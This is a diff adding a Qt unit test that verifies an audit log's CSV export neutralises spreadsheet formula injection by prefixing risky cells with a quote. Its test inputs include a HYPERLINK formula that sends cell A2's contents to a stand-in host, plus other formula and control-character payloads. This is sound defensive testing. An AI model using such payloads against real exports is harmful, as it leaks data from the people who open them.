@@ -138,6 +138,37 @@ private Q_SLOTS:
         QCOMPARE(separate.journalMode(), QStringLiteral("wal"));
     }
 
+    void csvCellsNeverBecomeFormulas()
+    {
+        // Anyone in a workspace can name a workflow; compliance opens the export in a
+        // spreadsheet. OWASP's rule: a cell that starts with = + - @ TAB or CR gets a '.
+        const QStringList hostile = {QStringLiteral("=HYPERLINK(\"https://x/?\"&A2,\"open\")"),
+                                     QStringLiteral("+1+2"),
+                                     QStringLiteral("-2+3"),
+                                     QStringLiteral("@SUM(A1:A9)"),
+                                     QStringLiteral("\tcmd"),
+                                     QStringLiteral("\rcmd")};
+        for (const QString &name : hostile) {
+            AuditEntry e = makeEntry(QStringLiteral("wf_1"), name, QStringLiteral("pause"));
+            e.id = 1;
+            e.reason = name;
+            e.serverMessage = name;
+            const QString row = AuditLog::toCsv({e}).split(QStringLiteral("\r\n")).value(1);
+            QVERIFY2(row.contains(QLatin1Char('\'') + name.left(1)), qPrintable(row));
+            // No cell of the row starts with a formula character any more.
+            for (QString cell : row.split(QLatin1Char(','))) {
+                if (cell.startsWith(QLatin1Char('"')))
+                    cell.remove(0, 1);
+                QVERIFY2(cell.isEmpty() || !QStringLiteral("=+-@\t\r").contains(cell.at(0)),
+                         qPrintable(row));
+            }
+        }
+        // Ordinary text and negative-looking ids of the API stay as they are.
+        AuditEntry plain = makeEntry(QStringLiteral("wf_2"), QStringLiteral("Spring promo"),
+                                     QStringLiteral("pause"));
+        QVERIFY(AuditLog::toCsv({plain}).contains(QStringLiteral(",Spring promo,")));
+    }
+
     void defaultPathIsTheConsoleDataFile()
     {
         QVERIFY(ConsoleDatabase::defaultPath().endsWith(QStringLiteral("/audit.sqlite")));
